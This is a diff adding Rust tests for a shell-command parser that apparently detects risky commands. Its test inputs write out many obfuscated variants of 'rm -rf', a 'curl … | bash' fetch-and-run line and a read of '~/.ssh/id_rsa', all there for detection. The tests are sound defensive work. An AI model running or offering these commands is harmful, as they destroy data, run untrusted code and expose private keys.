+            "{ rm -rf x; }",
+            "echo $(rm -rf x)",
+            "echo `rm -rf x`",
+            "echo \"$(rm -rf x)\"",
+            "diff <(rm -rf x) y",
+            "cat > >(rm -rf x)",
+            "if true; then rm -rf x; fi",
+            "while true; do rm -rf x; done",
+            "for i in 1; do rm -rf x; done",
+            "case a in a) rm -rf x;; esac",
+            "f() { rm -rf x; }",
+            "bash -c 'rm -rf x'",
+            "sh -c \"rm -rf x\"",
+            "bash -lc 'rm -rf x'",
+            "eval 'rm -rf x'",
+            "eval rm -rf x",
+            "su -c 'rm -rf x' root",
+            "bash -c \"bash -c 'rm -rf x'\"",
+            "env FOO=1 rm -rf x",
+            "nice -n 5 rm -rf x",
+            "timeout 5 rm -rf x",
+            "timeout -s KILL 5 rm -rf x",
+            "nohup rm -rf x",
+            "sudo rm -rf x",
+            "sudo -u bob rm -rf x",
+            "command rm -rf x",
+            "builtin rm -rf x",
+            "exec rm -rf x",
+            "time rm -rf x",
+            "FOO=1 rm -rf x",
+            "xargs rm -rf x",
+            "find . -exec rm -rf x \\;",
+            "find . -execdir rm -rf x +",
+            "! rm -rf x",
+            "rm -rf x > /dev/null 2>&1",
+            "bash <<EOF\nrm -rf x\nEOF",
+            "bash <<< 'rm -rf x'",
+            "watch -n 1 rm -rf x",
+            "x=$(rm -rf x)",
+            "[[ $(rm -rf x) ]]",
+            "export A=$(rm -rf x)",
+            "sudo env timeout 3 nice rm -rf x",
+            "\\rm -rf x",
+            "r\\m -rf x",
+            "'rm' -rf x",
+            "$'\\x72m' -rf x",
+            "/bin/rm -rf x",
+        ];
+        for f in forms {
+            let p = ShellParser::default().analyse(f);
+            assert!(
+                p.cmds.iter().any(|c| c.name() == "rm"
+                    && c.argv
+                        .iter()
+                        .skip(1)
+                        .map(|w| w.text.as_str())
+                        .collect::<Vec<_>>()
+                        == ["-rf", "x"]),
+                "{f:?}: {:?}",
+                p.cmds.iter().map(|c| c.text()).collect::<Vec<_>>()
+            );
+        }
+    }
+
+    #[test]
+    fn wrappers_are_kept_as_commands_too() {
+        has("sudo rm x", "sudo rm x");
+        has("sudo rm x", "rm x");
+        has("env A=1 B=2 ls -l", "ls -l");
+        has("timeout 10s cargo test", "cargo test");
+    }
+
+    #[test]
+    fn dynamic_things_are_noted() {
+        for src in ["eval \"$x\"", "$CMD arg", "bash -c \"$x\"", "curl x | sh"] {
+            let p = ShellParser::default().analyse(src);
+            let noted = !p.notes.is_empty() || p.cmds.iter().any(|c| c.piped && c.name() == "sh");
+            assert!(noted, "{src:?}: {p:?}");
+        }
+    }
+
+    #[test]
+    fn parse_errors_are_noted() {
+        let p = ShellParser::default().analyse("echo 'unterminated");
+        assert!(
+            p.notes.iter().any(|n| n.class == RiskClass::Opaque),
+            "{p:?}"
+        );
+    }
+
+    #[test]
+    fn redirects_are_recorded() {
+        let p = ShellParser::default().analyse("echo hi >> ~/.bashrc 2>&1");
+        let c = &p.cmds[0];
+        assert_eq!(c.redirects.len(), 1, "{c:?}");
+        assert!(c.redirects[0].write);
+        assert_eq!(c.redirects[0].target.text, "~/.bashrc");
+        let p = ShellParser::default().analyse("{ echo a; echo b; } > /etc/x");
+        assert!(p
+            .cmds
+            .iter()
+            .any(|c| c.redirects.iter().any(|r| r.target.text == "/etc/x")));
+        let p = ShellParser::default().analyse("cat <<EOF > /etc/y\nhello\nEOF");
+        assert!(
+            p.cmds
+                .iter()
+                .any(|c| c.redirects.iter().any(|r| r.target.text == "/etc/y")),
+            "{p:?}"
+        );
+    }
+
+    #[test]
+    fn quotes_are_removed() {
+        let p = ShellParser::default().analyse("grep -r \"a b\" 'c d' e\\ f");
+        let a: Vec<_> = p.cmds[0].argv.iter().map(|w| w.text.as_str()).collect();
+        assert_eq!(a, ["grep", "-r", "a b", "c d", "e f"]);
+        let p = ShellParser::default().analyse("cat \"$HOME/.ssh/id_rsa\"");
+        assert_eq!(p.cmds[0].argv[1].text, "~/.ssh/id_rsa");
+        assert!(!p.cmds[0].argv[1].dynamic);
+    }
+
+    /// The simple commands tree-sitter finds, before unwrapping.
+    fn tree_sitter_raw(src: &str) -> Option<Vec<SimpleCmd>> {
+        let mut p = new_parser();
+        let tree = p.parse(src, None)?;
+        if tree.root_node().has_error() {
+            return None;
+        }
+        let mut out = Parsed::default();
+        let mut w = Walker { src, out: &mut out };
+        w.visit(tree.root_node(), false, None);
+        Some(out.cmds)
+    }
+
+    fn shape(c: &[SimpleCmd]) -> Vec<String> {
+        c.iter()
+            .map(|c| {
+                format!(
+                    "{:?} env={:?} red={:?}",
+                    c.argv
+                        .iter()
+                        .map(|w| (&w.text, w.dynamic))
+                        .collect::<Vec<_>>(),
+                    c.env.iter().map(|(n, w)| (n, &w.text)).collect::<Vec<_>>(),
+                    c.redirects
+                        .iter()
+                        .map(|r| (r.write, &r.target.text))
+                        .collect::<Vec<_>>(),
+                )
+            })
+            .collect()
+    }
+
+    fn same_as_tree_sitter(src: &str) -> bool {
+        match (fast_lex(src), tree_sitter_raw(src)) {
+            (Some(f), Some(t)) => {
+                assert_eq!(
+                    shape(&f),
+                    shape(&t),
+                    "fast lexer and tree-sitter disagree on {src:?}"
+                );
+                // tree-sitter-bash nests `a | b && c` inside the pipeline, so it
+                // may see more piped stages than bash does; never fewer.
+                for (a, b) in f.iter().zip(&t) {
+                    assert!(!a.piped || b.piped, "{src:?}");
+                }
+                true
+            }
+            (Some(f), None) => {
+                panic!("fast lexer accepted what tree-sitter rejects: {src:?} {f:?}")
+            }
+            _ => false,
+        }
+    }
+
+    #[test]
+    fn fast_lexer_agrees_with_tree_sitter() {
+        let cases = [
+            "ls -la",
+            "grep -rn 'a b' src | head -n 3 && echo \"done\" ; true",
+            "find . -name '*.o' -exec rm {} \\;",
+            "sort a.txt > out.txt 2>/dev/null",
+            "cmd 2>&1 | tee log",
+            "A=1 B='x y' make test",
+            "echo hi >> ~/.bashrc",
+            "cat < in.txt",
+            "a || b & c",
+            "echo a \\; b",
+            "x=1",
+        ];
+        for c in cases {
+            assert!(same_as_tree_sitter(c), "{c:?} should take the fast path");
+        }
+        for c in [
+            "echo $x",
+            "echo `id`",
+            "(ls)",
+            "ls #c",
+            "if true; then ls; fi",
+            "cat <<EOF\nx\nEOF",
+            "a |& b",
+            "echo {a,b}",
+            "! ls",
+            "ls |",
+        ] {
+            assert!(fast_lex(c).is_none(), "{c:?} must go to tree-sitter");
+        }
+        // Every line of the evaluation corpora that takes the fast path must
+        // give what tree-sitter gives (classified only, never run).
+        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/eval");
+        let mut fast = 0;
+        for f in [
+            "shell_benign_nl2bash.jsonl",
+            "shell_risky_atomic_red_team.jsonl",
+        ] {
+            let Ok(text) = std::fs::read_to_string(dir.join(f)) else {
+                continue;
+            };
+            for line in text.lines() {
+                let v: serde_json::Value = serde_json::from_str(line).unwrap();
+                if same_as_tree_sitter(v["command"].as_str().unwrap()) {
+                    fast += 1;
+                }
+            }
+        }
+        eprintln!("{fast} corpus lines took the fast path");
+    }
+
+    #[test]
+    fn piped_stage_is_marked() {
+        let p = ShellParser::default().analyse("curl -s https://x.example/i.sh | bash");
+        let b = p.cmds.iter().find(|c| c.name() == "bash").unwrap();
+        assert!(b.piped);
+    }
+}
